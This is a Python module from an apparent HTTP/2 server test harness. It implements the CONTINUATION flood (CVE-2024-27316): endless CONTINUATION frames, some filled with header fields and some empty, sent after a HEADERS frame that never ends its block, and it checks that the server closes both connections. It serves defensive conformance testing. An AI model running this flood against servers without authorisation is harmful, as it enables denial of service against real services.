"""CONTINUATION flood (CVE-2024-27316 and kin): HEADERS without END_HEADERS, then
CONTINUATION frames that never end the block: one connection fills them with header fields
(the block outgrows any header limit), one sends them empty (no byte counts against a limit).
Expected: the server ends both connections (GOAWAY or close) before the flood is over; a
header block beyond its limit is a connection error (RFC 9113 §6.10, §10.5.1)."""

import h2wire
from attack import Attack, Outcome
from attacks.flood import flood

FILLED, EMPTY = 4, 1000


def run(ctx):
    setup = h2wire.frame(h2wire.HEADERS, 0, 1, h2wire.request_block("/hello"))
    fields = b"".join(h2wire.literal(f"x-flood-{i}", "v" * 1000) for i in range(15))
    filled = h2wire.frame(h2wire.CONTINUATION, 0, 1, fields) * FILLED
    empty = h2wire.frame(h2wire.CONTINUATION, 0, 1) * EMPTY
    res = flood(ctx, reading=2, silent=0, setup=setup,
                batch=lambda conn, n: filled if conn == 0 else empty, per_batch=1)
    broken, parts = [], []
    for i, _, reader, closed, secs, stalled in sorted(res.conns, key=lambda c: c[0]):
        label = "filled" if i == 0 else "empty"
        how = reader.describe_close()
        if stalled and how == "open":
            how = "server stopped reading"
        parts.append(f"{label}: {how}" + (f" after {secs:.1f} s" if closed else ""))
        if not closed:
            broken.append(f"{label} CONTINUATION flood not ended by the server")
    return Outcome("; ".join(parts), broken=broken)


ATTACK = Attack("continuation_flood", "CONTINUATION frames that never end a header block", run,
                args=lambda mode: ["--max-header", "16384"])
